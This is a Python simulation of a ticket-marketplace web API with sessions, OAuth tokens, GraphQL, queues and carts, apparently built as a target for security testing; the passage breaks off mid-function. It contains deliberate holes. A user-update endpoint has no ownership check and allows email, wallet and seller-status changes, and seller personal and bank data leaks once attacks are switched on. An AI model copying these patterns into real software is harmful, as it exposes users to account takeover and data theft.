"""An event-ticket marketplace in the manner of Ruby on Rails (Devise, Doorkeeper, graphql-ruby, rack-attack) behind a load balancer.
Browsers have a session cookie and a masked CSRF token, the mobile app opaque bearer tokens of two hours with a refresh token and a
GraphQL gateway for browsing, affiliates an X-Api-Key, gate scanners a paired device token, organisers and support a session with a role.
Quirks kept: an unrouted path or verb is 404 (never 405) and HTML when the Accept header is like a browser's, exceptions of routed
requests are {"status":…,"error":…}, a missing or stale CSRF token is 422, Doorkeeper refuses with 401 and an empty body,
rack-attack says "Retry later", GraphQL errors are HTTP 200."""
import difflib
from heldout_core import *

HOST, SRV, LB = 'stagepass.example', '10.60.4.10', '10.200.0.2'
A, O, G, F, D = '/api/v1', '/organizer/v1', '/gate/v1', '/affiliate/v2', '/admin'
B62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'
CITY = ['Lisboa', 'Porto', 'Madrid', 'Lyon', 'Torino', 'Gent', 'Graz']
ACTS = 'Night Ferry,The Paper Lanterns,Orquesta Azul,Marble & Rye,Sundial,Iron Orchard,Velvet Static,Nona Reis,Casa Amarela,Low Tide Choir,Kilo Hotel,Les Ondes,Tambor Novo,Glass Harbour,Uncle Bob\'s Big Band,Festa do Norte,Comedy: Rita Sol,Swan Lake,Hamlet,Derby FC v Union,Ocean Kids,Stand-up Select,Tango & More,Winter Proms'.split(',')
PROMO = {'WELCOME10': 10, 'SPRING26': 12, 'FANCLUB15': 15, 'STUDENT20': 20, 'MATINEE': 8, 'VIP40': 40, 'CREW50': 50}
SAY = ['Great seats!', "Can't wait :)", 'We are 3 people -> is the row accessible?', "The band's sound was <loud> & clear", 'Select seats near the aisle; drop me a line', 'Worth 40+ EUR', 'O\'Neill hall is cold, take a coat', '10/10']
ERR = {400: 'Bad Request', 401: 'Unauthorized', 403: 'Forbidden', 404: 'Not Found', 409: 'Conflict', 422: 'Unprocessable Entity', 500: 'Internal Server Error'}
PAGE = '<!DOCTYPE html>\n<html>\n<head>\n  <title>%s (%d)</title>\n  <meta name="viewport" content="width=device-width,initial-scale=1">\n  <style>\n  .rails-default-error-page { background-color: #EFEFEF; color: #2E2F30; text-align: center; font-family: arial, sans-serif; margin: 0; }\n  </style>\n</head>\n\n<body class="rails-default-error-page">\n  <div class="dialog"><div><h1>%s</h1></div>\n    <p>If you are the application owner check the logs for more information.</p>\n  </div>\n</body>\n</html>\n'
TEXT = {404: "The page you were looking for doesn't exist.", 500: "We're sorry, but something went wrong.", 422: 'The change you wanted was rejected.', 400: 'Your request was invalid.'}
BAD502 = '<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx/1.24.0</center>\r\n</body>\r\n</html>\r\n'
SEC = {'X-Frame-Options': 'SAMEORIGIN', 'X-XSS-Protection': '0', 'X-Content-Type-Options': 'nosniff', 'X-Permitted-Cross-Domain-Policies': 'none', 'Referrer-Policy': 'strict-origin-when-cross-origin', 'Vary': 'Accept'}
SCHEMA = {
    'Query': dict(featured='Event', events='EventConnection', event='Event', venue='Venue', artist='Artist', search='EventConnection', listings='Listing', me='User', node='Node'),
    'Mutation': dict(followArtist='Artist', saveEvent='Event'),
    'EventConnection': dict(nodes='Event', pageInfo='PageInfo', totalCount=None), 'PageInfo': dict(endCursor=None, hasNextPage=None),
    'Event': dict(id=None, name=None, startsAt=None, status=None, minPriceCents=None, imageUrl=None, waitingRoom=None, venue='Venue', artist='Artist', listings='Listing', similar='Event'),
    'Venue': dict(id=None, name=None, city=None, address=None, events='Event'), 'Artist': dict(id=None, name=None, events='Event'),
    'Listing': dict(id=None, priceCents=None, section=None, row=None, seller='Seller', event='Event'), 'Seller': dict(id=None, displayName=None, rating=None),
    'User': dict(id=None, name=None, email=None, phone=None, walletCents=None, orders='Order'), 'Order': dict(id=None, number=None, totalCents=None, status=None, email=None, event='Event', tickets='Ticket'),
    'Ticket': dict(id=None, seat=None, state=None, event='Event'), 'Node': dict(id=None)}
QUERIES = {
    'HomeFeed': 'query HomeFeed($city: String, $first: Int!) {\n  featured { id name imageUrl }\n  events(city: $city, first: $first) {\n    nodes { id name startsAt minPriceCents venue { id name city } }\n    pageInfo { endCursor hasNextPage }\n  }\n}',
    'SearchEvents': 'query SearchEvents($text: String!, $first: Int!, $after: String) {\n  search(text: $text, first: $first, after: $after) {\n    totalCount\n    nodes { id name startsAt status minPriceCents venue { name city } }\n    pageInfo { endCursor hasNextPage }\n  }\n}',
    'EventDetail': 'query EventDetail($id: ID!) {\n  event(id: $id) {\n    id name startsAt status minPriceCents imageUrl waitingRoom\n    venue { id name city address }\n    artist { id name }\n    listings(first: 5) { id priceCents section row seller { id displayName rating } }\n    similar(first: 4) { id name startsAt }\n  }\n}',
    'VenueScreen': 'query VenueScreen($id: ID!) {\n  venue(id: $id) { id name city address events(first: 10) { id name startsAt minPriceCents } }\n}',
    'ArtistScreen': 'query ArtistScreen($id: ID!) {\n  artist(id: $id) { id name events(first: 10) { id name startsAt venue { name city } } }\n}',
    'AccountBadge': 'query AccountBadge {\n  me { id name walletCents }\n}',
    'FollowArtist': 'mutation FollowArtist($id: ID!) {\n  followArtist(id: $id) { id name }\n}'}
TOKENS = re.compile(r'\.\.\.|[{}()\[\]:!=$@]|"(?:[^"\\]|\\.)*"|-?\d+(?:\.\d+)?|\w+')


def num(v, d=0):
    try:
        return int(v)
    except (TypeError, ValueError, OverflowError):
        return d


def b36(n):
    o = ''
    while n:
        n, k = divmod(n, 36)
        o = '0123456789abcdefghijklmnopqrstuvwxyz'[k] + o
    return o


def gql_parse(q):
    """operations and fragments: a selection is a list of (alias, name, arguments, selection) or ('...', type or fragment, None, selection)"""
    t = TOKENS.findall(q)
    pos = [0]

    def take(want=None):
        if pos[0] >= len(t):
            raise ValueError('Unexpected end of document')
        x = t[pos[0]]
        if want and x != want:
            raise ValueError(f'Expected {want}, actual: {x}')
        pos[0] += 1
        return x

    def peek():
        return t[pos[0]] if pos[0] < len(t) else ''

    def value():
        x = take()
        if x == '$':
            return ('$', take())
        if x == '[':
            v = []
            while peek() != ']':
                v.append(value())
            take()
            return v
        if x == '{':
            v = {}
            while peek() != '}':
                k = take()
                take(':')
                v[k] = value()
            take()
            return v
        return x[1:-1] if x[0] == '"' else int(x) if re.fullmatch(r'-?\d+', x) else x

    def sel():
        take('{')
        v = []
        while peek() != '}':
            x = take()
            if x == '...':
                if peek() == 'on':
                    take()
                    v.append(('...', take(), None, sel()))
                else:
                    v.append(('...', take(), None, None))
                continue
            if not re.match(r'[A-Za-z_]', x):
                raise ValueError(f'Unexpected {x}')
            al, args = x, {}
            if peek() == ':':
                take()
                x = take()
            if peek() == '(':
                take()
                while peek() != ')':
                    k = take()
                    take(':')
                    args[k] = value()
                take()
            v.append((al, x, args, sel() if peek() == '{' else None))
        take()
        return v
    ops, fr = [], {}
    while pos[0] < len(t):
        if peek() == '{':
            ops.append(('query', None, sel()))
            continue
        k = take()
        if k == 'fragment':
            n = take()
            take('on')
            ty = take()
            fr[n] = (ty, sel())
        elif k in ('query', 'mutation'):
            n = take() if re.match(r'\w', peek()) else None
            if peek() == '(':
                d = 0
                while True:
                    x = take()
                    d += (x == '(') - (x == ')')
                    if not d:
                        break
            ops.append((k, n, sel()))
        else:
            raise ValueError(f'Unexpected {k}')
    return ops, fr


class Tickets(App):
    server = 'nginx/1.24.0'
    base_lat = .034

    def __init__(s, rng, attacks, st):
        super().__init__(rng)
        s.attacks, s.st = attacks, st
        s.users, s.byid, s.sess, s.tok, s.ref, s.keys, s.dev = {}, {}, {}, {}, {}, {}, {}
        s.venues, s.artists, s.events, s.orders, s.number, s.tickets, s.listings, s.holds, s.carts, s.transfers, s.gifts, s.intents, s.payouts = ({} for _ in range(13))
        s.no, s.li, s.tr, s.po, s.sc = 204310, 48200, 86400, 7100, 990300
        s.mail, s.pair, s.hits, s.queue, s.refs = {}, {}, defaultdict(list), {}, {}
        s.promo = dict(PROMO)
        s.bad, s.grow, s.shadow = [], st + 11 * DAY + 9.2 * HOUR, st + 8 * DAY + 10 * HOUR

    # --- state
    def id(s, p, n=12):
        return p + '_' + ''.join(s.rng.choices(B62, k=n))

    def user(s, role='customer', name=None, email=None, pw=None, phone=None):
        r = s.rng
        f, l = r.choice(FIRST), r.choice(LAST)
        email = email or f'{f}.{l}{r.randint(1, 9999)}@{r.choice(["post", "inbox", "mail"])}.example'
        u = dict(id=s.id('usr', 10), name=name or f'{f.title()} {l.title()}', email=email, pw=pw or f'{r.choice(WORDS).title()}{r.randint(10, 9999)}!', phone=phone or f'+3519{r.randint(10**7, 10**8 - 1)}', role=role, wallet=0, orders=[], listings=[], payouts=[], seller=False, ref=''.join(r.choices('ABCDEFGHJKMNPQRSTUVWXYZ23456789', k=7)), birth=f'{r.randint(1960, 2006)}-{r.randint(1, 12):02}-{r.randint(1, 28):02}', iban=f'PT50{r.randint(10**20, 10**21 - 1)}')
        u['mem'] = u['pw']
        s.users[email] = s.byid[u['id']] = u
        s.refs[u['ref']] = u
        return u

    def world(s):
        r = s.rng
        for k in range(14):
            i = s.id('ven', 8)
            s.venues[i] = dict(id=i, name=f'{r.choice(WORDS).title()} {r.choice(["Hall", "Arena", "Theatre", "Park", "Club"])}', city=CITY[k % 7], address=f'{r.randint(1, 220)} {r.choice(LAST).title()} Street')
        for a in ACTS:
            i = s.id('art', 8)
            s.artists[i] = dict(id=i, name=a)
        for k in range(96):
            i, a, v = s.id('evt'), s.artists[r.choice(list(s.artists))], r.choice(list(s.venues))
            at = s.st + (k % 16 if k < 22 else r.randint(17, 150)) * DAY + r.choice([18, 19, 19.5, 20]) * HOUR
            p = r.choice([1800, 2500, 3200, 4500, 6900])
            s.events[i] = dict(id=i, name=f'{a["name"]} {r.choice(["live", "on tour", "2026", "- matinee", "& friends"])}', at=at, v=v, a=a['id'], price=[p, int(p * 1.4), int(p * 2.1)], sold=set(), held={}, room=None, status='on_sale', org=None)

    def seats(s, e):
        return [f'{x}-{row}-{n}' for x in 'ABC' for row in range(1, 7) for n in range(1, 15)]

    def free(s, e, now):
        for k in [k for k, v in e['held'].items() if v[1] < now]:
            del e['held'][k]
        return [x for x in s.seats(e) if x not in e['sold'] and x not in e['held']]

    def price(s, e, seat):
        return e['price']['CBA'.index(seat[0])]

    def mk_order(s, u, e, seats, at, total=None, email=None):
        s.no += s.rng.choice([1, 1, 1, 2])
        o = dict(id=s.id('ord'), number=f'K-{s.no}', user=u['id'] if u else None, email=email or u['email'], evt=e['id'], tickets=[], at=at, total=total if total is not None else sum(s.price(e, x) for x in seats), status='paid', ship=None)
        for x in seats:
            t = s.id('tix')
            s.tickets[t] = dict(id=t, order=o['id'], evt=e['id'], seat=x, owner=u['id'] if u else None, barcode=f'{s.rng.randint(10**12, 10**13 - 1)}', state='valid', by=None)
            o['tickets'].append(t)
            e['sold'].add(x)
        s.orders[o['id']] = s.number[o['number']] = o
        if u:
            u['orders'].append(o['id'])
        return o

    def mk_listing(s, u, t, cents, at):
        s.li += s.rng.choice([1, 1, 2])
        s.tickets[t]['state'] = 'listed'
        s.listings[s.li] = dict(id=s.li, ticket=t, seller=u['id'], cents=cents, state='active', at=at)
        u['listings'].append(s.li)
        return s.listings[s.li]

    # --- views
    def iso(s, t):
        return time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(t)) + f'.{int(t % 1 * 1000):03}Z'

    def o_event(s, e, full=False):
        v = s.venues[e['v']]
        d = dict(id=e['id'], name=e['name'], starts_at=s.iso(e['at']), status=e['status'], min_price_cents=e['price'][0], currency='EUR', venue=dict(id=v['id'], name=v['name'], city=v['city']), waiting_room=bool(e['room']))
        if full:
            d.update(artist=s.artists[e['a']], description=f'{s.artists[e["a"]]["name"]} at {v["name"]}. Doors open one hour before. ' * 3, price_levels=[dict(section=x, cents=s.price(e, x + '-')) for x in 'ABC'], max_per_order=6)
        return d

    def o_user(s, u):
        return dict(id=u['id'], name=u['name'], email=u['email'], phone=u['phone'], role=u['role'], verified_seller=u['seller'], wallet_cents=u['wallet'], referral_code=u['ref'])

    def o_order(s, o, full=False):
        e = s.events[o['evt']]
        d = dict(id=o['id'], number=o['number'], status=o['status'], total_cents=o['total'], created_at=s.iso(o['at']), event=dict(id=e['id'], name=e['name'], starts_at=s.iso(e['at'])), tickets_count=len(o['tickets']))
        if full:
            d.update(email=o['email'], tickets=[dict(s.o_ticket(s.tickets[t]), **({} if s.tickets[t]['owner'] == o['user'] else {'state': 'transferred'})) for t in o['tickets']], payment=dict(brand='visa', last4=o['number'][-4:]))
        return d

    def o_ticket(s, t):
        return dict(id=t['id'], seat=t['seat'], state=t['state'], event_id=t['evt'])

    def o_listing(s, l, now, full=False):
        t = s.tickets[l['ticket']]
        u = s.byid[l['seller']]
        n = u['name'].split()
        d = dict(id=l['id'], event_id=t['evt'], section=t['seat'][0], row=t['seat'].split('-')[1], price_cents=l['cents'], state=l['state'], seller=dict(id=u['id'], display_name=f'{n[0]} {n[-1][0]}.', rating=round(3.5 + len(u['id'] + u['name']) % 15 / 10, 1)))
        if full:
            d.update(ticket_id=t['id'], listed_at=s.iso(l['at']), fees_cents=int(l['cents'] * .12))
            if s.attacks and now > s.grow:
                d['seller'].update(email=u['email'], phone=u['phone'], date_of_birth=u['birth'], payout_iban=u['iban'])
        return d

    def o_cart(s, c):
        return dict(id=c['id'], event_id=c['evt'], items=[dict(seat=x, unit_price_cents=p) for x, p in c['items'].items()], addons=c['addons'], promo_code=c['promo'], discount_cents=c['disc'], gift_cents=c['gift'], fees_cents=c['fees'], total_cents=s.total(c), state=c['state'], attendees=c['att'])

    def total(s, c):
        return max(0, sum(c['items'].values()) + sum(a['quantity'] * a['cents'] for a in c['addons']) - c['disc'] - c['gift'] + c['fees'])

    # --- the framework
    def fail(s, st, extra=None, **k):
        return Rs(st, extra or {'status': st, 'error': ERR[st]}, **k)

    def html(s, st):
        return Rs(st, PAGE % (TEXT[st], st, TEXT[st]), ct='text/html; charset=utf-8')

    def client_ip(s, rq):
        return rq.h.get('x-forwarded-for', rq.cl.ip).split(',')[0].strip()

    def not_found(s, rq):
        a = rq.h.get('accept', '')
        return Rs(404, {'status': 404, 'error': 'Not Found'}, lat=.006) if rq.path.endswith('.json') or (a.startswith('application/json') and ',' not in a) else s.html(404)

    def find(s, m, path):
        hit = super().find(m, path[:-5] if path.endswith('.json') else path)
        return None if hit and hit[1] is None else hit

    def handle(s, rq):
        rq.sid, rq.set, rq.user = None, None, None
        m = re.search(r'_stagepass_session=([0-9a-f]{32})', rq.h.get('cookie', ''))
        if m:
            rq.sid = m.group(1)
        if rq.m == 'POST':
            rq.m = (rq.h.get('x-http-method-override') or (rq.form.get('_method') if 'urlencoded' in rq.h.get('content-type', '') else '') or 'POST').upper()
        hit = s.find(rq.m, rq.path)
        tpl = hit[0] if hit else rq.path
        if any(a <= rq.now < b for a, b in s.bad) and s.rng.random() < .8 and rq.path.startswith((A, '/graphql', '/oauth', O)):
            return Rs(502, BAD502, ct='text/html', lat=s.rng.choice([.002, .003, 5.01])), tpl
        if rq.m == 'POST' and rq.path in ('/oauth/token', A + '/session', A + '/password'):
            v = s.hits[s.client_ip(rq)]
            v[:] = [t for t in v if t > rq.now - 60]
            if len(v) >= 30:
                return Rs(429, 'Retry later\n', {'Retry-After': '60'}, ct='text/plain', lat=.003), tpl
            v.append(rq.now)
        if hit and rq.body and 'json' in rq.h.get('content-type', ''):
            try:
                json.loads(rq.body)
            except ValueError:
                return s.fail(400, lat=.007), tpl
        r, tpl = super().handle(rq)
        if r.st == 404 and r.body is None:
            r.body = {'status': 404, 'error': 'Not Found'}
        for k, v in SEC.items():
            r.h.setdefault(k, v)
        if r.st in (200, 201) and r.body is not None and not r.h.get('Cache-Control'):
            b = r.body if isinstance(r.body, bytes) else json.dumps(r.body).encode()
            r.h['ETag'] = 'W/"' + hashlib.md5(b).hexdigest() + '"'
            r.h['Cache-Control'] = 'max-age=0, private, must-revalidate'
            if rq.m == 'GET' and rq.h.get('if-none-match') == r.h['ETag']:
                r.st, r.body = 304, None
        elif r.st >= 400:
            r.h.setdefault('Cache-Control', 'no-cache')
        if isinstance(r.body, (dict, list)):
            r.ct = 'application/json; charset=utf-8'
        if rq.set:
            r.h['Set-Cookie'] = f'_stagepass_session={rq.set}; path=/; secure; HttpOnly; SameSite=Lax'
        r.h['X-Request-Id'] = uid(s.rng)
        r.h['X-Runtime'] = f'{max(.001, r.lat - .002):.6f}'
        return r, tpl

    def session(s, rq, u=None):
        i = f'{s.rng.getrandbits(128):032x}'
        s.sess[i] = dict(user=u['email'] if u else None, csrf=s.rng.randbytes(32), at=rq.now)
        rq.set = rq.sid = i
        return s.sess[i]

    def csrf(s, x):
        pad = s.rng.randbytes(32)
        return base64.b64encode(pad + bytes(a ^ b for a, b in zip(pad, x['csrf']))).decode()

    def csrf_ok(s, x, t):
        try:
            b = base64.b64decode(t)
        except ValueError:
            return False
        return len(b) == 64 and bytes(p ^ q for p, q in zip(b[:32], b[32:])) == x['csrf']

    def authenticate(s, rq, kw):
        need = kw.get('auth', 'user')
        rq.u = rq.key = rq.device = None
        a = rq.h.get('authorization', '')
        x = s.sess.get(rq.sid)
        if a.startswith('Bearer '):
            t = s.tok.get(a[7:])
            if t and t[1] > rq.now:
                rq.u = s.users.get(t[0])
            elif a[7:] in s.dev:
                rq.device = s.dev[a[7:]]
                rq.user = 'device:' + rq.device['name']
        elif x and rq.now - x['at'] < 14 * DAY:
            x['at'] = rq.now
            rq.u = s.users.get(x['user'])
            if rq.m != 'GET' and not kw.get('nocsrf') and not s.csrf_ok(x, rq.h.get('x-csrf-token', '')):
                return s.fail(422, lat=.008)
        if rq.u:
            rq.user = rq.u['email']
        k = rq.h.get('x-api-key')
        if k in s.keys:
            rq.key = s.keys[k]
            rq.user = 'affiliate:' + rq.key['name']
        if need == 'none':
            return None
        if need == 'gate':
            return None if rq.device else Rs(401, h={'WWW-Authenticate': 'Bearer realm="Gate"'}, lat=.005)
        if need == 'key':
            return None if rq.key else s.fail(401, {'error': 'invalid_api_key'}, lat=.005)
        if not rq.u:
            if a.startswith('Bearer '):
                return Rs(401, h={'WWW-Authenticate': 'Bearer realm="Doorkeeper", error="invalid_token", error_description="The access token expired"' if a[7:] in s.tok else 'Bearer realm="Doorkeeper", error="invalid_token", error_description="The access token is invalid"'}, lat=.006)
            return s.fail(401, {'error': 'You need to sign in or sign up before continuing.'}, lat=.006)
        if need != 'user' and rq.u['role'] not in need.split('|'):
            return s.fail(403, {'error': 'You are not authorized to perform this action.'}, lat=.009)

    def params(s, rq, k):
        j = rq.json if isinstance(rq.json, dict) else {}
        v = j.get(k)
        return v if isinstance(v, dict) else None

    def page(s, rq, v, f, n=20, top=100):
        per = min(max(1, num(rq.q.get('per_page'), n)), top)
        p = max(1, num(rq.q.get('page'), 1))
        w = v[(p - 1) * per:p * per]
        h = {'X-Total': str(len(v)), 'X-Page': str(p), 'X-Per-Page': str(per)}
        if p * per < len(v):
            h['Link'] = f'<http://{HOST}{rq.path}?page={p + 1}&per_page={per}>; rel="next"'
        return Rs(200, [f(x) for x in w], h, lat=.02 + .0006 * len(w) + s.rng.random() * .02)

    # --- accounts
    def grant(s, u, now):
        t, f = (''.join(s.rng.choices(B62 + '-_', k=43)) for _ in range(2))
        s.tok[t] = (u['email'], now + 7200)
        s.ref[f] = u['email']
        return {'access_token': t, 'token_type': 'Bearer', 'expires_in': 7200, 'refresh_token': f, 'scope': 'app', 'created_at': int(now)}

    @route('POST', '/oauth/token', auth='none', nocsrf=1)
    def token(s, rq):
        j = rq.json if isinstance(rq.json, dict) and rq.json else rq.form
        h = {'Cache-Control': 'no-store', 'Pragma': 'no-cache'}
        if j.get('grant_type') == 'refresh_token':
            m = s.ref.pop(str(j.get('refresh_token')), None)
            u = s.users.get(m)
        elif j.get('grant_type') == 'password':
            u = s.users.get(str(j.get('username')))
            u = u if u and u['pw'] == j.get('password') else None
        else:
            return Rs(400, {'error': 'unsupported_grant_type', 'error_description': 'The authorization grant type is not supported by the authorization server.'}, h)
        if not u:
            return Rs(400, {'error': 'invalid_grant', 'error_description': 'The provided authorization grant is invalid, expired, revoked, does not match the redirection URI used in the authorization request, or was issued to another client.'}, dict(h, **{'WWW-Authenticate': 'Bearer realm="Doorkeeper", error="invalid_grant"'}), lat=.2 + s.rng.random() * .08)
        rq.user = u['email']
        return Rs(200, s.grant(u, rq.now), h, lat=.22 + s.rng.random() * .1)

    @route('POST', A + '/session', auth='none')
    def login(s, rq):
        p = s.params(rq, 'user')
        if p is None:
            return s.fail(400)
        if rq.sid not in s.sess:
            return s.fail(422)
        u = s.users.get(str(p.get('email')))
        if not u or u['pw'] != p.get('password'):
            return s.fail(401, {'error': 'Invalid Email or password.'}, lat=.21 + s.rng.random() * .08)
        x = s.session(rq, u)
        rq.user = u['email']
        return Rs(201, dict(user=s.o_user(u), csrf_token=s.csrf(x)), lat=.24 + s.rng.random() * .08)

    @route('DELETE', A + '/session')
    def logout(s, rq):
        s.sess.pop(rq.sid, None)
        s.session(rq)
        return Rs(204)

    @route('POST', A + '/users', auth='none', nocsrf=1)
    def signup(s, rq):
        p = s.params(rq, 'user')
        if p is None:
            return s.fail(400)
        e = {}
        if not isinstance(p.get('email'), str) or not re.fullmatch(r'[^@\s]+@[^@\s]+', p['email']):
            e['email'] = ['is invalid']
        elif p['email'] in s.users:
            e['email'] = ['has already been taken']
        if not isinstance(p.get('password'), str) or len(p['password']) < 8:
            e['password'] = ['is too short (minimum is 8 characters)']
        if not isinstance(p.get('name'), str) or not p['name']:
            e['name'] = ["can't be blank"]
        if e:
            return s.fail(422, {'errors': e})
        u = s.user('customer', p['name'][:80], p['email'][:120], p['password'], str(p.get('phone') or '')[:20] or None)
        if isinstance(p.get('referral_code'), str) and p['referral_code'] in s.refs:
            s.refs[p['referral_code']]['wallet'] += 500
            u['wallet'] += 500
        rq.user = u['email']
        return Rs(201, dict(user=s.o_user(u)), lat=.28)

    @route('GET', A + '/me')
    def me(s, rq):
        return 200, s.o_user(rq.u)

    @route('PATCH', A + '/users/{i}')
    def patch_user(s, rq, i):
        p = s.params(rq, 'user')
        u = s.byid.get(i)
        if p is None:
            return s.fail(400)
        if not u:
            return s.fail(404)
        if isinstance(p.get('email'), str):     # No look at whose account it is.
            if p['email'] in s.users:
                return s.fail(422, {'errors': {'email': ['has already been taken']}})
            s.users[p['email']] = u
            s.users.pop(u['email'])
            for t, (m, x) in list(s.tok.items()):
                if m == u['email']:
                    s.tok[t] = (p['email'], x)
            for x in s.sess.values():
                if x['user'] == u['email']:
                    x['user'] = p['email']
            u['email'] = p['email']
        for k, f in (('name', 'name'), ('phone', 'phone'), ('role', 'role'), ('verified_seller', 'seller'), ('wallet_cents', 'wallet')):
            if k in p and (k != 'role' or p[k] in ('customer', 'organizer')):
                u[f] = p[k] if f in ('name', 'phone', 'role') else num(p[k])
        return 200, s.o_user(u)

    @route('PUT', A + '/me/password')
    def set_password(s, rq):
        p = s.params(rq, 'user') or {}
        if p.get('current_password') != rq.u['pw']:
            return s.fail(422, {'errors': {'current_password': ['is invalid']}}, lat=.2)
        if len(str(p.get('password'))) < 8:
            return s.fail(422, {'errors': {'password': ['is too short (minimum is 8 characters)']}})
        rq.u['pw'] = p['password']
        return Rs(204, lat=.3)

    @route('POST', A + '/password', auth='none', nocsrf=1)
    def forgot(s, rq):
        p = s.params(rq, 'user')
        if p is None:
            return s.fail(400)
        u = s.users.get(str(p.get('email')))
        if not u:
            return s.fail(422, {'errors': {'email': ['not found']}}, lat=.02)
        s.mail[u['email']] = ''.join(s.rng.choices(B62 + '-_', k=20))
        return Rs(200, {}, lat=.12)

    @route('PUT', A + '/password', auth='none', nocsrf=1)
    def reset(s, rq):
        p = s.params(rq, 'user') or {}
        m = next((m for m, t in s.mail.items() if t == p.get('reset_password_token')), None)
        if not m:
            return s.fail(422, {'errors': {'reset_password_token': ['is invalid']}}, lat=.02)
        s.mail.pop(m)
        s.users[m]['pw'] = str(p.get('password'))
        rq.user = m
        return Rs(204, lat=.3)

    # --- browsing
    def ev(s, q):
        v = [e for e in s.events.values() if e['status'] != 'draft']
        c, t = q.get('filter[city]'), q.get('q', '').lower()
        if c:
            v = [e for e in v if s.venues[e['v']]['city'] == c]
        if t:
            v = [e for e in v if t in e['name'].lower() or t in s.venues[e['v']]['name'].lower()]
        return sorted(v, key=lambda e: e['at'])

    @route('GET', A + '/events', auth='none')
    def list_events(s, rq):
        return s.page(rq, [e for e in s.ev(rq.q) if e['at'] > rq.now], s.o_event)

    @route('GET', A + '/events/{i}', auth='none')
    def get_event(s, rq, i):
        return (200, s.o_event(s.events[i], True)) if i in s.events else s.fail(404)

    @route('GET', A + '/venues/{i}', auth='none')
    def get_venue(s, rq, i):
        return (200, dict(s.venues[i], upcoming=[s.o_event(e) for e in s.events.values() if e['v'] == i and e['at'] > rq.now][:10])) if i in s.venues else s.fail(404)

    @route('GET', A + '/events/{i}/seats', auth='none')
    def seat_map(s, rq, i):
        e = s.events.get(i)
        if not e:
            return s.fail(404)
        d = defaultdict(lambda: defaultdict(list))
        for x in s.free(e, rq.now):
            a, b, c = x.split('-')
            d[a][b].append(int(c))
        return Rs(200, dict(event_id=i, sections=[dict(section=a, price_cents=s.price(e, a + '-'), rows=[dict(row=b, free=c) for b, c in v.items()]) for a, v in d.items()]), lat=.05 + s.rng.random() * .05)

    @route('GET', A + '/events/{i}/reviews', auth='none')
    def reviews(s, rq, i):
        e = s.events.get(i)
        return (200, [dict(id=k + 1, body=x, author=n) for k, (x, n) in enumerate(e.get('rev', []))][-30:]) if e else s.fail(404)

    @route('POST', A + '/events/{i}/reviews')
    def add_review(s, rq, i):
        p = s.params(rq, 'review')
        if i not in s.events:
            return s.fail(404)
        if p is None or not isinstance(p.get('body'), str):
            return s.fail(400)
        s.events[i].setdefault('rev', []).append((p['body'][:500], rq.u['name'].split()[0]))
        return 201, dict(id=len(s.events[i]['rev']), body=p['body'][:500])

    # --- waiting room
    def ticket_of(s, c):
        return jwt(c, 'waitingroom')

    @route('POST', A + '/events/{i}/queue')
    def join(s, rq, i):
        e = s.events.get(i)
        if not e:
            return s.fail(404)
        if not e['room'] or not e['room'][0] <= rq.now < e['room'][1]:
            return s.fail(409, {'error': 'queue_not_open'})
        v = s.queue.setdefault(i, [])
        q = f'{s.rng.getrandbits(64):016x}'
        v.append(max(rq.now + 4, (v[-1] if v else e['room'][0]) + s.rng.uniform(5, 11)))
        return 201, dict(queue_token=s.ticket_of(dict(evt=i, qid=q, pos=len(v), due=int(v[-1]), adm=False, iat=int(rq.now))), position=sum(t > rq.now for t in v), retry_after=15)

    @route('GET', A + '/queue/status', auth='none')
    def queue_status(s, rq):
        c = jwt_ok(rq.q.get('token', ''), 'waitingroom')
        if not c:
            return s.fail(401, {'error': 'invalid_queue_token'})
        if c.get('due', 0) > rq.now:
            return 200, dict(status='waiting', position=sum(rq.now < t <= c['due'] for t in s.queue.get(c['evt'], [])), retry_after=15)
        return 200, dict(status='admitted', queue_token=s.ticket_of(dict(c, adm=True, exp=int(rq.now + 1200))))

    # --- buying
    @route('POST', A + '/events/{i}/holds')
    def hold(s, rq, i):
        e, p = s.events.get(i), s.params(rq, 'hold')
        if not e:
            return s.fail(404)
        if p is None or not isinstance(p.get('seat_ids'), list):
            return s.fail(400)
        if e['room'] and e['room'][0] <= rq.now < e['room'][1]:
            c = jwt_ok(rq.h.get('x-queue-token', ''), 'waitingroom')
            if not c or not c.get('adm') or c.get('evt') != i or num(c.get('exp')) < rq.now:
                return s.fail(403, {'error': 'queue_required'})
        if not 0 < len(p['seat_ids']) <= 6:
            return s.fail(422, {'errors': {'seat_ids': ['must be between 1 and 6']}})
        fr = set(s.free(e, rq.now))
        gone = [x for x in p['seat_ids'] if x not in fr]
        if gone:
            return s.fail(409, {'error': 'seats_unavailable', 'seats': gone[:6]})
        h = s.id('hld')
        for x in p['seat_ids']:
            e['held'][x] = (h, rq.now + 480)
        s.holds[h] = dict(id=h, evt=i, seats=p['seat_ids'], user=rq.u['id'], exp=rq.now + 480)
        return 201, dict(id=h, event_id=i, seats=p['seat_ids'], expires_at=s.iso(rq.now + 480), total_cents=sum(s.price(e, x) for x in p['seat_ids']))

    @route('DELETE', A + '/holds/{i}')
    def drop_hold(s, rq, i):
        h = s.holds.get(i)
        if not h or h['user'] != rq.u['id']:
            return s.fail(404)
        for x in h['seats']:
            s.events[h['evt']]['held'].pop(x, None)
        del s.holds[i]
        return Rs(204)

    @route('POST', A + '/carts')
    def new_cart(s, rq):
        p = s.params(rq, 'cart') or {}
        h = s.holds.get(str(p.get('hold_id')))
        if not h or h['user'] != rq.u['id']:
            return s.fail(404)
        if h['exp'] < rq.now:
            return s.fail(422, {'errors': {'hold': ['has expired']}})
        e = s.events[h['evt']]
        c = s.carts[s.id('crt')] = dict(evt=h['evt'], hold=h['id'], user=rq.u['id'], items={x: s.price(e, x) for x in h['seats']}, addons=[], promo=None, disc=0, gift=0, fees=250, state='open', att=[], paid=False, pi=None, cards=[])
        c['id'] = next(reversed(s.carts))
        return 201, s.o_cart(c)

    def cart(s, rq, i):
        c = s.carts.get(i)
        return c if c and c['user'] == rq.u['id'] else None

    @route('GET', A + '/carts/{i}')
    def get_cart(s, rq, i):
        c = s.cart(rq, i)
        return (200, s.o_cart(c)) if c else s.fail(404)

    @route('PATCH', A + '/carts/{i}')
    def patch_cart(s, rq, i):
        c, p = s.cart(rq, i), s.params(rq, 'cart')
        if not c:
            return s.fail(404)
        if p is None:
            return s.fail(400)
        if isinstance(p.get('attendees'), list):
            c['att'] = p['attendees'][:6]
